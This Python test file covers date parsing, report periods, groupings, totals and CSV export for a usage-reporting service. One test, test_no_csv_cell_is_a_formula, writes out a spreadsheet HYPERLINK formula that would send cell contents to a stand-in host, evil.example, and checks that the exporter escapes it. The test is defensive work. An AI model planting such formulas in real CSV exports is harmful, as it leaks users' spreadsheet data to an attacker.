"""Periods, groupings and the CSV of usage reports."""

import csv
import io
from datetime import UTC, datetime, timedelta
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from service.core.errors import InvalidRequest
from service.usage.csv_export import COLUMNS, to_csv
from service.usage.period import Period, parse_moment, period
from service.usage.reports import Grouping, GroupSums, Sums, UsageSummary

NOW = datetime(2026, 11, 23, 12, 30, 15, 99, tzinfo=UTC)
NOVEMBER = datetime(2026, 11, 1, tzinfo=UTC)


@pytest.mark.parametrize(
    ("text", "moment"),
    [
        ("2026-11-23", datetime(2026, 11, 23, tzinfo=UTC)),
        ("2026-11-23T10:00:00Z", datetime(2026, 11, 23, 10, tzinfo=UTC)),
        ("2026-11-23t10:00:00.5z", datetime(2026, 11, 23, 10, 0, 0, 500_000, tzinfo=UTC)),
        ("2026-11-23T01:00:00+02:00", datetime(2026, 11, 22, 23, tzinfo=UTC)),
        ("2024-02-29", datetime(2024, 2, 29, tzinfo=UTC)),
    ],
)
def test_dates_and_rfc_3339_times_are_moments_in_utc(text: str, moment: datetime) -> None:
    assert parse_moment(text) == moment
    assert parse_moment(text).utcoffset() == timedelta(0)


@pytest.mark.parametrize(
    "text",
    [
        "",
        "today",
        "2026-11-31",
        "2026-13-01",
        "20261123",
        "2026-W48-1",
        "1700000000",
        "2026-11-23T10:00:00",
        "2026-11-23 10:00:00Z",
        "2026-11-23T10:00:00 02:00",
        "2026-11-23T25:00:00Z",
        "2026-11-23T10:00:00+99:00",
        "0001-01-01T00:00:00+01:00",
        "9999-12-31T23:59:59-01:00",
        "2026-11-23Z",
        "\uff12\uff10\uff12\uff16-11-23",
        "2026-11-23\n",
    ],
)
def test_anything_else_is_no_moment(text: str) -> None:
    with pytest.raises(ValueError, match="RFC 3339"):
        parse_moment(text)


def test_by_default_the_period_is_this_month_until_now() -> None:
    assert period(None, None, now=NOW) == Period(start=NOVEMBER, end=NOW)


def test_the_first_moment_of_a_month_has_an_empty_period() -> None:
    assert period(None, None, now=NOVEMBER) == Period(start=NOVEMBER, end=NOVEMBER)


@pytest.mark.parametrize(
    ("start", "end", "field"),
    [
        (NOW, NOVEMBER, "to"),
        (NOVEMBER, NOVEMBER, "to"),
        (None, NOVEMBER, "to"),
        (NOW + timedelta(seconds=1), None, "from"),
    ],
)
def test_a_period_that_is_empty_or_backwards_names_the_field(
    start: datetime | None, end: datetime | None, field: str
) -> None:
    with pytest.raises(InvalidRequest) as refused:
        period(start, end, now=NOW)
    assert refused.value.field == field


@pytest.mark.parametrize("text", ["", "hour", "Day", "tag", "tag:", "tag:" + "x" * 65, "tag:\0"])
def test_an_unknown_grouping_is_refused(text: str) -> None:
    with pytest.raises(ValueError, match="tag:NAME"):
        Grouping.parse(text)


def test_a_tag_may_be_called_anything() -> None:
    assert Grouping.parse("tag:day") == Grouping(by="tag", tag="day")
    assert Grouping.parse("tag:tag:x") == Grouping(by="tag", tag="tag:x")
    assert Grouping.parse("tag:" + "x" * 64).tag == "x" * 64


def group(name: str | None, cost: str = "0") -> GroupSums:
    return GroupSums(
        group=name,
        sums=Sums(
            requests=2,
            errors=1,
            cache_hits=1,
            input_tokens=10,
            output_tokens=5,
            cost_usd=Decimal(cost),
        ),
    )


def test_days_come_in_their_order_and_other_groups_by_cost() -> None:
    groups = [group("b", "1"), group(None, "3"), group("c", "2"), group("a", "1")]
    by_day = UsageSummary.of([group("2"), group("1", "9")], grouping=Grouping(by="day"))
    by_model = UsageSummary.of(groups, grouping=Grouping(by="model"))
    assert [each.group for each in by_day.groups] == ["1", "2"]
    assert [each.group for each in by_model.groups] == [None, "c", "a", "b"]


def test_totals_are_the_exact_sums_of_the_groups() -> None:
    summary = UsageSummary.of(
        [group("a", "0.1"), group("b", "0.2"), group("c", "0.000000001")],
        grouping=Grouping(by="model"),
    )
    assert summary.totals.cost_usd == Decimal("0.300000001")
    assert (summary.totals.requests, summary.totals.errors, summary.totals.cache_hits) == (6, 3, 3)
    assert summary.totals.total_tokens == 45


def test_a_report_of_nothing_is_all_zero() -> None:
    empty = UsageSummary.of([], grouping=Grouping(by="day"))
    assert empty.totals.requests == 0
    assert empty.totals.cost_usd == 0
    assert to_csv(empty) == ",".join(COLUMNS) + "\r\n"


def cells(*names: str | None) -> list[list[str]]:
    """The CSV of groups with these names, as a program reads it, without the head."""
    summary = UsageSummary.of(map(group, names), grouping=Grouping(by="day"))
    head, *lines = csv.reader(io.StringIO(to_csv(summary), newline=""))
    assert head == list(COLUMNS)
    return lines


def test_csv_has_exact_money_and_a_line_for_each_group() -> None:
    summary = UsageSummary.of([group("haiku", "0.000000010")], grouping=Grouping(by="model"))
    assert to_csv(summary).splitlines()[1] == "haiku,2,1,1,10,5,15,0.000000010"
    assert cells(None)[0][0] == ""


@pytest.mark.parametrize(
    "start", ["=", "+", "-", "@", "\t", "\r", "\n", " =", "\uff1d", "\uff0b", "\uff0d", "\uff20"]
)
def test_no_csv_cell_is_a_formula(start: str) -> None:
    formula = f'{start}HYPERLINK("http://evil.example?x="&A1;"","click")'
    assert cells(formula)[0][0] == f"'{formula}"


@given(st.text(alphabet=st.characters(exclude_categories=["Cs"]), max_size=20))
def test_csv_cells_are_what_they_were_but_for_the_apostrophe(name: str) -> None:
    ((cell, *numbers),) = cells(name)
    assert cell.removeprefix("'") == name.removeprefix("'")
    assert len(numbers) == len(COLUMNS) - 1
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
